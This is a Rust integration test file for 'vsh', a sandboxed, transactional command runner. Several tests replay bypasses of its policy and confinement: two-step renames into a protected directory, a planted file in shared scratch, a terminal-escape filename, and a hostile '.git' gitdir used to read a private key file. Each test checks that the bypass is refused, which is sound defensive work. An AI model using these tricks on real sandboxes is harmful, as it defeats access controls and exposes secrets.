        // A file the run made, outside the writable roots, moved into one (sec84).
        "echo y > new.py && mv new.py src/new.py",
    ] {
        let (code, receipt) = exec(script);
        assert_eq!(code, Some(0), "{script}: {receipt}");
        assert_ne!(receipt["state"], "denied", "{script}: {receipt}");
    }
    let (code, receipt) = exec("mv migrations/0001.sql migrations/0001_old.sql");
    assert_eq!((code, &receipt["state"]), (Some(5), &serde_json::json!("denied")), "{receipt}");
    assert_eq!(receipt["decision"]["denied"][0]["path"], "migrations/0001.sql", "{receipt}");
}

/// sec85 F1: a move no rename may make (`inbox/**` denying
/// `rename-destination`) went through in two steps: to a temporary name,
/// then in, the second judged a write of a node the run made. A node that
/// is still the base's under another name moves the base's. sec85 F2: a
/// program's directory moved where its files may not be made was refused
/// only by the decision, not at its call.
#[test]
fn a_move_in_two_steps_is_judged_as_the_move_it_is() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "src/f.txt", "f\n");
    std::os::unix::fs::symlink("f.txt", dir.path().join("src/link")).unwrap();
    std::fs::create_dir(dir.path().join("empty")).unwrap();
    write(dir.path(), "tree/x.txt", "x\n");
    write(dir.path(), "inbox/.keep", "");
    write(dir.path(), "out/.keep", "");
    let policy = dir.path().join("policy.toml");
    let rules = "version = 1\n[[protect]]\npattern = \"inbox/**\"\naccess = [\"rename-destination\"]\n\
                 [[protect]]\npattern = \"out/**/*.sql\"\naccess = [\"create\"]\n";
    init_with_policy(ws, &policy, rules);
    for script in [
        "mv src/f.txt .tmp && mv .tmp inbox/f.txt",
        "mv -T tree t3 && mkdir inbox/e && mv -T t3 inbox/e",
        // Rewritten with its own bytes on the way, or no file at all (sec86).
        "mv src/f.txt .t && dd if=.t of=.t conv=notrunc status=none && mv .t inbox/f.txt",
        "mv src/link .t && mv .t inbox/link",
        "mv empty .t && mv .t inbox/empty",
        // Changed in place before the first move (sec87 F1).
        "chmod 644 src/f.txt && mv src/f.txt .t && mv .t inbox/f.txt",
        "dd if=src/f.txt of=src/f.txt conv=notrunc status=none && mv src/f.txt .t && mv .t inbox/f.txt",
    ] {
        let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
        let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout)
            .unwrap_or_else(|_| panic!("{script}: {}", String::from_utf8_lossy(&ran.stderr)));
        assert_eq!(receipt["state"], "denied", "{script}: {receipt}");
        assert_eq!(receipt["decision"]["denied"][0]["access"], "rename-destination", "{script}: {receipt}");
    }
    // A copy the run made is the run's, however it is moved (sec86 F4: it
    // was judged a rename of the base's file).
    let copied = "vsh_copy('src/f.txt', 'src/g.txt')\nimport os\nos.rename('src/g.txt', 'inbox/g.txt')";
    let ran = vsh(&["run", "--workspace", ws, "--json", "-"], Some(copied));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_ne!(receipt["state"], "denied", "{receipt}");
    // A program's own move is refused at its call.
    let program = "import os\nvsh_mkdir('d')\nvsh_write('d/a.sql', 'x')\nos.rename('d', 'out/sub')";
    let ran = vsh(&["run", "--workspace", ws, "-"], Some(program));
    let said = format!("{}{}", String::from_utf8_lossy(&ran.stdout), String::from_utf8_lossy(&ran.stderr));
    assert_eq!(ran.status.code(), Some(5), "{said}");
    assert!(said.contains("PermissionError") && said.contains("create of out/sub/a.sql denied"), "{said}");
}

/// ux78 M1: a command that changed a file past the 256 MiB a run holds of
/// one file was told "snapshot limit `max_materialized_file_bytes` exceeded
/// at big.dat: 314572800 > 268435456" and nothing else.
#[test]
fn a_file_too_large_to_change_is_named_with_its_size_and_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    // Sparse: 300 MiB of size, no blocks.
    std::fs::File::create(dir.path().join("big.dat")).unwrap().set_len(300 << 20).unwrap();
    let ran = vsh(&["exec", "--workspace", ws, "--", "sh", "-c", "printf x >> big.dat"], None);
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert_eq!(ran.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("big.dat (300 MiB) is larger than the 256 MiB a run may hold of one file")
            && stderr.contains("nothing was changed; change a file that large outside vsh"),
        "{stderr}"
    );
    assert_eq!(std::fs::metadata(dir.path().join("big.dat")).unwrap().len(), 300 << 20);
}

/// sec82 2: the scratch directories are shared by runs granted alike, and a
/// run that changed nothing left there what the next one executed (a
/// planted bytecode file). `--fresh-scratch` starts a run's commands with
/// them empty, for a result that rests on the workspace alone.
#[test]
fn fresh_scratch_starts_the_commands_with_nothing_an_earlier_run_left() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "Cargo.toml", "[package]\nname = \"x\"\n");
    let exec = |extra: &[&str], script: &str| {
        let mut args = vec!["exec", "--workspace", ws, "--json"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&["--", "sh", "-c", script]);
        let ran = vsh(&args, None);
        assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
        serde_json::from_slice::<serde_json::Value>(&ran.stdout).unwrap()
    };
    let planted = exec(&[], "mkdir -p target && echo planted > target/left");
    assert_eq!(planted["changes"], serde_json::json!([]), "{planted}");
    // Shared with the next run granted alike (the baseline).
    assert_eq!(exec(&[], "cat target/left 2>/dev/null || echo none")["stdout"], "planted\n");
    let fresh = exec(&["--fresh-scratch"], "cat target/left 2>/dev/null || echo none");
    assert_eq!(fresh["stdout"], "none\n", "{fresh}");
    assert_eq!(fresh["warnings"], serde_json::json!([]), "{fresh}");
}

/// ux56 #8: what this Monty lacks (the guide's "Does not work" table) got
/// a bare Python error; each says what to use instead.
#[test]
fn a_program_using_what_monty_lacks_is_told_what_to_use_instead() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    for (program, instead) in [
        ("import os\nfor r, d, f in os.walk('.'):\n    print(r)", "no os.walk: vsh_glob('**/*') lists a tree"),
        ("import os\nos.path.join('a', 'b')", "no os.path: pathlib.Path and /"),
        ("from pathlib import Path\nlist(Path('.').glob('*'))", "no Path.glob: vsh_glob(pattern, path)"),
        ("'%d' % 3", "no % formatting: f-strings or str.format"),
    ] {
        let ran = vsh(&["run", "--workspace", ws, "-"], Some(program));
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert_eq!(ran.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains(&format!("vsh: this Monty has {instead}")), "{program}: {stderr}");
    }
}

/// ux55 #4: a large review could not be narrowed or read by its shape
/// first. `vsh show TX PATH...` reviews those paths (a directory: what is
/// beneath it), and `--stat` lists every changed path without hunks.
#[test]
fn show_narrows_to_paths_and_directories_and_stat_lists_every_path() {
    let dir = tempfile::tempdir().unwrap();
    for d in ["a", "b"] {
        for n in 0..30 {
            write(dir.path(), &format!("{d}/f{n:02}.txt"), &format!("line {n}\n"));
        }
    }
    let ws = dir.path().to_str().unwrap();
    let program = "for p in vsh_glob('*/*.txt'):\n    vsh_patch(p, 'line', 'LINE')";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(program)));
    let text = |args: &[&str]| {
        let mut all = vec!["show", id.as_str(), "--workspace", ws];
        all.extend_from_slice(args);
        let output = vsh(&all, None);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        (String::from_utf8_lossy(&output.stdout).into_owned(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let (one, _) = text(&["a/f07.txt"]);
    assert!(one.contains("    -line 7\n    +LINE 7\n"), "{one}");
    assert_eq!(one.matches("    --- a/").count(), 1, "{one}");
    let (below, said) = text(&["b/", "nope"]);
    assert_eq!(below.matches("    --- a/b/").count(), 30, "{below}");
    assert!(!below.contains("--- a/a/"), "{below}");
    assert!(said.contains("nope is not changed by this transaction"), "{said}");
    // Only paths it does not change: an error naming them, no header (ux62).
    let none = vsh(&["show", id.as_str(), "nope", "also/not", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&none.stderr);
    assert_eq!(none.status.code(), Some(1), "{said}");
    assert!(none.stdout.is_empty() && said.contains("changes none of nope, also/not"), "{said}");
    let (stat, _) = text(&["--stat"]);
    assert_eq!(stat.lines().filter(|line| line.starts_with("  modify  ")).count(), 60, "{stat}");
    assert!(!stat.contains("@@") && !stat.contains("and 10 more"), "{stat}");
    let json = vsh(&["show", "--json", id.as_str(), "a", "--workspace", ws], None);
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(document["receipt"]["review"].as_array().unwrap().len(), 30, "{document}");
    // A path a rename made, asked for alone, is still that rename (ux61 8:
    // it was a whole new file); the path it left says where it went.
    let moved = "vsh_write('b/g.txt', vsh_read('b/f03.txt'))\nvsh_remove('b/f03.txt')";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(moved)));
    let show = |path: &str| {
        String::from_utf8_lossy(&vsh(&["show", id.as_str(), path, "--workspace", ws], None).stdout).into_owned()
    };
    let made = show("b/g.txt");
    assert!(
        made.contains("    rename from b/f03.txt\n    rename to b/g.txt\n") && !made.contains("/dev/null"),
        "{made}"
    );
    let left = show("b/f03.txt");
    assert!(left.contains("renamed: its change is shown at the path it moved to") && !left.contains("+++"), "{left}");
}

/// A warning that names a path (here the build output under a directory
/// whose name clears the screen) shows it escaped, as every other path.
#[test]
fn a_warning_that_names_a_path_escapes_it() {
    let dir = tempfile::tempdir().unwrap();
    let evil = dir.path().join("app\x1b[2J");
    std::fs::create_dir(&evil).unwrap();
    std::fs::write(evil.join("Cargo.toml"), "[package]\n").unwrap();
    let ws = dir.path().to_str().unwrap();
    let program =
        "from pathlib import Path\nPath('app\\x1b[2J/target').mkdir()\nPath('app\\x1b[2J/target/o').write_text('x')";
    let ran = vsh(&["run", "--workspace", ws, "-"], Some(program));
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(stderr.contains("warning: app\\x1b[2J/target"), "{stderr}");
    assert!(!stderr.contains('\x1b'), "{stderr:?}");
    // And with --raw, where the program's own output goes first.
    let raw = vsh(&["run", "--raw", "--workspace", ws, "-"], Some(program));
    let stderr = String::from_utf8_lossy(&raw.stderr);
    assert!(stderr.contains("warning: app\\x1b[2J/target") && !stderr.contains('\x1b'), "{stderr:?}");
}

#[test]
fn rerun_runs_a_real_command_and_real_bash_again_on_the_workspace_as_it_is_now() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    let ws = dir.path().to_str().unwrap();
    let json = |output: &Output| -> serde_json::Value {
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice(&output.stdout).unwrap()
    };
    // A command's preview goes stale: the file it read changed.
    let first =
        json(&vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", "tr a-z A-Z < a.txt > b.txt"], None));
    write(dir.path(), "a.txt", "two\n");
    let id = first["transaction"].as_str().unwrap();
    let stale = vsh(&["commit", id, "--workspace", ws], None);
    assert_eq!(stale.status.code(), Some(6), "{}", String::from_utf8_lossy(&stale.stderr));
    assert!(String::from_utf8_lossy(&stale.stderr).contains("vsh rerun"), "vsh suggests it");
    // Run again: a real command in a candidate, on the workspace as it is now.
    let again = json(&vsh(&["rerun", id, "--workspace", ws, "--mode", "auto", "--json"], None));
    assert_eq!(again["profile"], "vsh-command-confined-v1", "{again}");
    assert_eq!(again["state"], "committed", "{again}");
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "TWO\n");
    // Real bash runs again in real bash (`declare -A` is real bash only).
    let script = dir.path().join("count.sh");
    // It takes longer than a program's second: a run of real programs gets
    // a command's budget, the first time and again.
    std::fs::write(&script, "declare -A seen=([x]=1)\nsleep 1.2\necho ${#seen[@]} >> c.txt\n").unwrap();
    let ran = json(&vsh(&["run", "--workspace", ws, "--confined", "--json", script.to_str().unwrap()], None));
    let id = ran["transaction"].as_str().unwrap();
    let again = json(&vsh(&["rerun", id, "--workspace", ws, "--json"], None));
    assert_eq!(again["profile"], "vsh-bash-confined-v1", "{again}");
    assert_eq!(again["changed_paths"], 1, "{again}");
    // And the budget is the operator's to set, as for run.
    // (--again: the rerun above waits, and would otherwise be named instead.)
    let short = vsh(&["rerun", id, "--workspace", ws, "--again", "--timeout", "300ms"], None);
    assert_eq!(short.status.code(), Some(1), "{}", String::from_utf8_lossy(&short.stderr));
    assert!(String::from_utf8_lossy(&short.stderr).contains("duration limit 0.3 s"), "{short:?}");
    // A Monty program's vsh_exec alike: it ran with commands, so it runs
    // with them again, unasked.
    let program = dir.path().join("slow.py");
    std::fs::write(
        &program,
        "from pathlib import Path\nvsh_exec(['sleep', '1.2'])\nPath('/workspace/d.txt').write_text('d')\n",
    )
    .unwrap();
    let ran = json(&vsh(&["run", "--workspace", ws, "--commands", "--json", program.to_str().unwrap()], None));
    let id_monty = ran["transaction"].as_str().unwrap();
    let again = json(&vsh(&["rerun", id_monty, "--workspace", ws, "--json"], None));
    assert_eq!(again["changed_paths"], 1, "{again}");
    // A failing command's failure is accepted again only when asked.
    let failing = vsh(
        &["exec", "--workspace", ws, "--json", "--accept-failure", "--", "sh", "-c", "echo f > f.txt; exit 3"],
        None,
    );
    let id_failing = json(&failing)["transaction"].as_str().unwrap().to_owned();
    let refused = vsh(&["rerun", &id_failing, "--workspace", ws], None);
    assert_eq!(refused.status.code(), Some(1), "{}", String::from_utf8_lossy(&refused.stderr));
    let accepted = json(&vsh(&["rerun", &id_failing, "--workspace", ws, "--accept-failure", "--json"], None));
    assert_eq!(accepted["exit_code"], 3, "{accepted}");
    // --commands is for a Monty program's transaction.
    let refused = vsh(&["rerun", id, "--workspace", ws, "--commands"], None);
    assert_eq!(refused.status.code(), Some(2), "{}", String::from_utf8_lossy(&refused.stderr));
}

/// ux51: a shell builtin, or a command line given as one argument, gets
/// advice that works, not "give its directory: --tool DIR".
#[test]
fn a_builtin_or_a_command_line_in_one_argument_is_told_how_to_run_it() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let said = |argv: &[&str]| {
        let mut args = vec!["exec", "--workspace", ws, "--"];
        args.extend(argv);
        let output = vsh(&args, None);
        assert_ne!(output.status.code(), Some(0));
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    // cargo that could not fetch a dependency (ux50 L9): the offline registry.
    let fetch = "echo 'error: no matching package named `anyhow` found' >&2; exit 101";
    let cargo = said(&["sh", "-c", fetch]);
    assert!(cargo.contains("--tool ~/.cargo/registry") && cargo.contains("--offline"), "{cargo}");
    // A refused variable: what the command can do instead (ux51).
    let refused = vsh(&["exec", "--workspace", ws, "--env", "PYTHONPATH=src", "--", "true"], None);
    let text = String::from_utf8_lossy(&refused.stderr);
    assert!(text.contains("sh -c 'PYTHONPATH=... COMMAND'"), "{text}");
    // A usage error, as any bad flag is (ux79 L7: it was 1).
    assert_eq!(refused.status.code(), Some(2), "{text}");
    let builtin = said(&["cd", "/"]);
    assert!(builtin.contains("`cd` is a shell builtin") && !builtin.contains("--tool DIR"), "{builtin}");
    for line in ["ls -la", "sed -i s/a/b/ f.txt"] {
        let text = said(&[line]);
        assert!(text.contains("is one argument holding spaces") && !text.contains("--tool DIR"), "{text}");
        assert!(text.contains(&format!("sh -c '{line}'")) && text.contains(&format!("vsh exec -- {line})")), "{text}");
    }
    // sh's `source` is `.` (ux52: the advice was a line dash refuses).
    let source = said(&["source", "env.sh"]);
    assert!(source.contains("sh -c '. ./FILE"), "{source}");
}

/// ux51: `--accept-failure` is suggested only where it would help: a script
/// that exited non-zero, not one that ran a command outside the profile.
#[test]
fn accept_failure_is_advised_only_for_a_failure_it_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let run = |extra: &[&str], script: &str| {
        let mut args = vec!["run", "--language", "bash", "--workspace", ws];
        args.extend(extra);
        args.push("-");
        String::from_utf8_lossy(&vsh(&args, Some(script)).stderr).into_owned()
    };
    let exited = run(&[], "echo x > a.txt\nexit 3");
    assert!(exited.contains("unless run with --accept-failure"), "{exited}");
    for extra in [&[][..], &["--accept-failure"][..]] {
        let outside = run(extra, "echo x > a.txt\ncargo build");
        assert!(outside.contains("never committable, --accept-failure or not"), "{outside}");
        assert!(!outside.contains("unless run with --accept-failure"), "{outside}");
        assert!(!outside.contains("run it with --accept-failure"), "{outside}");
    }
}

/// ux51: a review of committed work keeps its old side (the commit kept
/// the bytes it replaced), and shows no expiry: committed work never expires.
#[test]
fn a_committed_change_is_shown_as_committed_without_an_expiry() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\ntwo\n");
    let ws = dir.path().to_str().unwrap();
    let run = vsh(&["run", "--workspace", ws, "-"], Some("vsh_write('a.txt', 'one\\nTWO\\n')"));
    assert_eq!(run.status.code(), Some(0), "{}", String::from_utf8_lossy(&run.stderr));
    let id = id_of(&run);
    let waiting = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    assert!(waiting.contains("\nexpires "), "a preview waits, and expires: {waiting}");
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(0));
    // Its review still has both sides: the commit kept what it replaced.
    let text = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
    assert!(text.contains("    -two\n") && text.contains("    +TWO\n"), "{text}");
    assert!(!text.contains("\nexpires ") && !text.contains("no longer in the workspace"), "{text}");
}

/// ux57: the review of work approved and committed still read "decision:
/// pending approval"; it says what became of it.
#[test]
fn a_review_says_what_became_of_work_that_waited_for_approval() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some("vsh_remove('old.txt')")));
    let review = |id: &str| String::from_utf8_lossy(&vsh(&["show", id, "--workspace", ws], None).stdout).into_owned();
    assert!(review(&id).contains("decision: pending approval (risk: deletion)\n"), "{}", review(&id));
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));
    assert!(review(&id).contains("decision: pending approval (risk: deletion), then approved\n"), "{}", review(&id));
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(0));
    let text = review(&id);
    assert!(text.contains("decision: pending approval (risk: deletion), then approved and committed\n"), "{text}");
}

/// ux51: a command refused a socket (a test's own server, `cargo clippy
/// --fix`'s lock listener) is told which flag gives it one.
#[test]
fn a_command_refused_a_socket_is_told_to_ask_for_a_loopback() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let serve = "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); print('bound')";
    let refused = vsh(&["exec", "--workspace", ws, "--", "python3", "-c", serve], None);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{said}");
    assert!(said.contains("refused a socket") && said.contains("--allow-network loopback"), "{said}");
    let given = vsh(&["exec", "--workspace", ws, "--allow-network", "loopback", "--", "python3", "-c", serve], None);
    assert_eq!(given.status.code(), Some(0), "{}", String::from_utf8_lossy(&given.stderr));
    assert!(String::from_utf8_lossy(&given.stdout).contains("bound"));
    // A unix socket is told the flag that gives one (ux76: multiprocessing's
    // Manager was sent to the loopback).
    let manager = "import multiprocessing; m = multiprocessing.Manager(); print('managed')";
    let refused = vsh(&["exec", "--workspace", ws, "--", "python3", "-c", manager], None);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("refused a unix socket") && said.contains("--allow-unix-sockets"), "{said}");
    let given = vsh(&["exec", "--workspace", ws, "--allow-unix-sockets", "--", "python3", "-c", manager], None);
    assert_eq!(given.status.code(), Some(0), "{}", String::from_utf8_lossy(&given.stderr));
}

/// sec51: a repository that ships `.vsh` as a symlink (or a file) is refused
/// as a workspace, and what it shipped stays: vsh removes only a `.vsh` it
/// made itself.
#[test]
fn a_vsh_entry_the_workspace_already_had_is_refused_and_left_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, outside) = (dir.path().join("repo"), dir.path().join("outside"));
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join(".vsh")).unwrap();
    let ran = vsh(&["run", "--workspace", ws.to_str().unwrap(), "-"], Some("1"));
    assert_ne!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    assert!(std::fs::symlink_metadata(ws.join(".vsh")).unwrap().file_type().is_symlink(), "the symlink stays");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0, "nothing made where it points");
    std::fs::remove_file(ws.join(".vsh")).unwrap();
    std::fs::write(ws.join(".vsh"), "mine\n").unwrap();
    let ran = vsh(&["run", "--workspace", ws.to_str().unwrap(), "-"], Some("1"));
    assert_ne!(ran.status.code(), Some(0));
    assert_eq!(std::fs::read_to_string(ws.join(".vsh")).unwrap(), "mine\n", "the file stays");
}

#[test]
fn rerun_gives_the_commands_the_first_runs_grants_again_and_a_variable_only_its_first_value() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let tools = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    let greet = tools.path().join("greet");
    std::fs::write(&greet, "#!/bin/sh\necho tool ran\n").unwrap();
    std::fs::set_permissions(&greet, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let ws = dir.path().to_str().unwrap();
    let tool = tools.path().to_str().unwrap();
    // The command reads a.txt, runs the granted tool and prints the variable.
    let script = format!("cat a.txt > out.txt && {} >> out.txt && echo \"$GREETING\" >> out.txt", greet.display());
    let ran = vsh(
        &["exec", "--workspace", ws, "--json", "--env", "GREETING=hello", "--tool", tool, "--", "sh", "-c", &script],
        None,
    );
    assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    let id =
        serde_json::from_slice::<serde_json::Value>(&ran.stdout).unwrap()["transaction"].as_str().unwrap().to_owned();
    write(dir.path(), "a.txt", "two\n");
    // Stale: the hint names the variable vsh's environment cannot give again.
    let stale = vsh(&["commit", &id, "--workspace", ws], None);
    assert_eq!(stale.status.code(), Some(6), "{}", String::from_utf8_lossy(&stale.stderr));
    let said = String::from_utf8_lossy(&stale.stderr);
    assert!(said.contains(&format!("`vsh rerun {} --env GREETING=VALUE`", &id[..12])), "runs as pasted: {said}");
    assert!(said.contains("give each --env the value the first run's commands had"), "{said}");
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&shown.stdout);
    assert!(said.contains(&format!("vsh rerun {} --env GREETING=VALUE", &id[..12])), "{said}");
    // With the first value in vsh's environment, the plain command is the hint.
    let stale = vsh_env(&["commit", &id, "--workspace", ws], &[("GREETING", "hello")], "");
    let said = String::from_utf8_lossy(&stale.stderr);
    assert!(said.contains(&format!("`vsh rerun {}`", &id[..12])), "{said}");
    // Without the variable, or with another value, rerun refuses before running.
    for env in [&[][..], &[("GREETING", "bye")][..]] {
        let refused = vsh_env(&["rerun", &id, "--workspace", ws], env, "");
        assert_eq!(refused.status.code(), Some(2), "{}", String::from_utf8_lossy(&refused.stderr));
        let said = String::from_utf8_lossy(&refused.stderr);
        assert!(said.contains("given GREETING") && said.contains("--env GREETING=VALUE"), "{said}");
        assert!(said.contains("--no-first-grants"), "{said}");
    }
    // With the first value: the tool and the variable again, as they were.
    let again = vsh_env(&["rerun", &id, "--workspace", ws, "--mode", "auto"], &[("GREETING", "hello")], "");
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(!String::from_utf8_lossy(&again.stderr).contains("granted other"), "{again:?}");
    assert_eq!(std::fs::read_to_string(dir.path().join("out.txt")).unwrap(), "two\ntool ran\nhello\n");
    // A value given on the command line is used, with a word that it differs.
    // (--again: the rerun above is committed, and would otherwise be named instead.)
    let given = vsh(&["rerun", &id, "--workspace", ws, "--again", "--json", "--env", "GREETING=hi"], None);
    assert!(given.status.success(), "{}", String::from_utf8_lossy(&given.stderr));
    assert!(String::from_utf8_lossy(&given.stderr).contains("GREETING is given another value"), "{given:?}");
    // Only this command line's grants: the tool is out of the command's reach.
    let bare = vsh(&["rerun", &id, "--workspace", ws, "--again", "--no-first-grants"], None);
    assert_eq!(bare.status.code(), Some(1), "{}", String::from_utf8_lossy(&bare.stderr));
    assert!(String::from_utf8_lossy(&bare.stderr).contains("granted other than the first run's"), "{bare:?}");
}

#[test]
fn git_diff_and_status_in_a_candidate_read_the_repository_without_writing_it() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    write(dir.path(), "b.txt", "two\n");
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"])
            .args(args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(status.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&status.stderr));
    };
    git(&["init", "-q"]);
    git(&["add", "a.txt", "b.txt"]);
    git(&["commit", "-q", "-m", "init"]);
    let ws = dir.path().to_str().unwrap();
    let exec = |script: &str| -> serde_json::Value {
        let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
        assert_eq!(ran.status.code(), Some(0), "{script}: {}", String::from_utf8_lossy(&ran.stderr));
        serde_json::from_slice(&ran.stdout).unwrap()
    };
    // A clean tree: nothing to show, and nothing written to .git (which a
    // refresh of the index would be, and be denied).
    for script in ["git diff", "git diff HEAD", "git status --porcelain", "git diff --stat"] {
        let receipt = exec(script);
        assert_eq!(receipt["state"], "auto-approved", "{script}: {receipt}");
        assert_eq!(receipt["stdout"], "", "{script}: {receipt}");
    }
    // The system's git, whatever the host's /etc/gitconfig says (ux53: a
    // host file the command may not read stopped git at once).
    let receipt = exec("echo $GIT_CONFIG_NOSYSTEM; PATH=/usr/bin:/bin git status --porcelain");
    assert_eq!(receipt["stdout"], "1\n", "{receipt}");
    // A change the command makes is seen, and only it.
    let receipt = exec("echo three >> b.txt; git status --porcelain; git diff --stat");
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    assert_eq!(receipt["stdout"], " M b.txt\n b.txt | 1 +\n 1 file changed, 1 insertion(+)\n", "{receipt}");
    assert_eq!(receipt["changed_paths"], 1);
    // The configuration is vsh's: the command reads it and cannot change it.
    let receipt = exec("(echo x > /tmp/.gitconfig) 2>/dev/null || git config --global core.checkStat");
    assert_eq!(receipt["stdout"], "minimal\n", "{receipt}");
    // A worktree of the repository (its `.git` a file naming a directory
    // outside it) is a workspace like any: git reads the repository, and
    // an edit is no write into a repository.
    let tree = tempfile::tempdir().unwrap();
    let worktree = tree.path().join("agent");
    git(&["worktree", "add", "-q", worktree.to_str().unwrap(), "-b", "agent"]);
    let ran = vsh(
        &[
            "exec",
            "--workspace",
            worktree.to_str().unwrap(),
            "--json",
            "--",
            "sh",
            "-c",
            "echo four >> a.txt; git diff --stat; git status --short",
        ],
        None,
    );
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["stdout"], " a.txt | 1 +\n 1 file changed, 1 insertion(+)\n M a.txt\n", "{receipt}");
    assert_eq!(receipt["state"], "auto-approved", "{receipt}");
    // A `.git` file naming some other directory (a hostile archive's
    // `gitdir: /root/.ssh`) grants nothing: only a worktree's own git
    // directory, naming this `.git` back, is read.
    let elsewhere = tempfile::tempdir().unwrap();
    write(elsewhere.path(), "HEAD", "ref: refs/heads/main\n");
    write(elsewhere.path(), "id_key", "PRIVATE\n");
    let hostile = tree.path().join("hostile");
    write(&hostile, ".git", &format!("gitdir: {}\n", elsewhere.path().display()));
    let key = elsewhere.path().join("id_key");
    let ran =
        vsh(&["exec", "--workspace", hostile.to_str().unwrap(), "--json", "--", "cat", key.to_str().unwrap()], None);
    assert_ne!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stdout));
    assert!(
        !String::from_utf8_lossy(&ran.stdout).contains("PRIVATE")
            && !String::from_utf8_lossy(&ran.stderr).contains("PRIVATE")
    );
    // Worktrees inside a bare repository: the common directory holds the
    // sibling worktrees, and is not granted (git there needs a --tool).
    let bare = tree.path().join("proj.git");
    git(&["clone", "-q", "--bare", ".", bare.to_str().unwrap()]);
    for name in ["main", "feature"] {
        let made = Command::new("git").args(["worktree", "add", "-q", name]).current_dir(&bare).output().unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    }
    write(&bare.join("feature"), "sibling.txt", "SIBLING\n");
    let main = bare.join("main");
    let ran =
        vsh(&["exec", "--workspace", main.to_str().unwrap(), "--json", "--", "cat", "../feature/sibling.txt"], None);
    assert!(!String::from_utf8_lossy(&ran.stdout).contains("SIBLING"), "{}", String::from_utf8_lossy(&ran.stdout));
}

#[test]
fn exec_started_inside_a_protected_directory_says_so() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "secrets/token.txt", "s3cret\n");
    write(dir.path(), "src/a.txt", "a\n");
    let run_in = |inside: &str| {
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "--workspace", dir.path().to_str().unwrap(), "--", "ls"])
            .current_dir(dir.path().join(inside))
            .env_clear()
            .output()
            .unwrap()
    };
    let refused = run_in("secrets");
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{stderr}");
